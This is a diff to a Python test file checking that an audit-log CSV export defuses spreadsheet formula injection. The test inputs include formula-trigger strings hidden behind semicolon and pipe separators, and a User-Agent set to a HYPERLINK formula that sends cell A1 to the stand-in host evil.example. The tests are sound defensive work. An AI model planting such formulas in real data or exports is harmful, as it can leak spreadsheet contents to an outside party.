@@ -4,6 +4,7 @@ from typing import Any
 import pytest
 
 from chalicelib.features.audit_exports import collecting
+from chalicelib.kernel import envelope
 from tests.harness import cloud, logs
 from tests.harness.api import Api
 from tests.harness.callers import Person
@@ -14,8 +15,8 @@ from tests.harness.organizations import Founded, found, joins, make_key
 from tests.harness.workers import Workers
 
 COLUMNS = (
-    "sequence,id,occurredAt,type,actorType,actorId,actorName,targetType,targetId,targetName,operationId,requestId,"
-    "ipAddress,userAgent,changes,data,leafHash,treeSize,erased"
+    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
+    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased"'
 )
 
 
@@ -170,6 +171,14 @@ class TestAsCsv:
         (row,) = rows(exported(api, organization, format="csv").text)
         assert row["targetName"] == f"'{text.strip()}"
 
+    @pytest.mark.parametrize("text", ["a;=1+1", "a|+1", 'a;"-1', "a ; @A1"])
+    def test_nor_is_what_stands_behind_a_separator_of_another_kind(self, api: Api, ada: Person, text: str) -> None:
+        organization = found(api, ada, name=text, slug="engines")
+        line = exported(api, organization, format="csv").text.splitlines()[1]
+        behind = [part.lstrip(' "') for part in line.replace("|", ";").split(";")[1:]]
+        assert behind
+        assert not any(part.startswith(("=", "+", "-", "@")) for part in behind)
+
     def test_a_user_agent_is_no_formula_either(self, api: Api, organization: Founded) -> None:
         agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
         api.patch(organization.path, as_=organization.owner, json={"name": "B"}, headers={"User-Agent": agent})
@@ -214,9 +223,9 @@ class TestWhatIsTooLarge:
     ) -> None:
         organization = found(api, ada, name="🚂" * 200, slug="trains")
         text = exported(api, organization).text
-        monkeypatch.setattr(collecting, "_MOST_ANSWERED", len(json.dumps(text)) + 1)
+        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
         assert exported(api, organization).text == text
-        monkeypatch.setattr(collecting, "_MOST_ANSWERED", len(json.dumps(text)))
+        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
         self.refused(api, organization, "than an answer can carry")
 
     def test_a_filter_that_hardly_anything_passes_is_not_looked_for_without_end(
